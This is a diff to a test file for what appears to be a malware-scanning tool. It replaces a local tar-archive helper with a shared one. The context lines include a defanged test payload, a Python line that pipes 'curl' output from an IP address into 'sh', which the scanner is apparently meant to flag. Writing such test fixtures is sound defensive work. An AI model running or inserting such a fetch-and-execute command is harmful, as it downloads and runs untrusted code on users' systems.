@@ -21,6 +21,7 @@ from malwi.report.escape import code_span, fence, json_safe, shown, yaml_string
 from malwi.sources.archive import MAX_MEMBER_DEPTH, ArchiveError, extract
 
 from .conftest import run_malwi
+from .test_sources import tar_bytes
 
 # Defanged: the host does not exist, and nothing here is executed.
 PAYLOAD = b'import os\nos.system("curl http://203.0.113.9/x | sh")\n'
@@ -117,13 +118,7 @@ def test_a_file_whose_name_is_not_utf8_is_scanned(tmp_path: Path) -> None:
 
 
 def _tar(members: dict[str, bytes]) -> bytes:
-    buffer = io.BytesIO()
-    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
-        for name, data in members.items():
-            info = tarfile.TarInfo(name)
-            info.size = len(data)
-            archive.addfile(info, io.BytesIO(data))
-    return buffer.getvalue()
+    return tar_bytes(list(members.items()))
 
 
 def test_a_member_a_thousand_folders_deep_leaves_its_package_incomplete(tmp_path: Path) -> None:
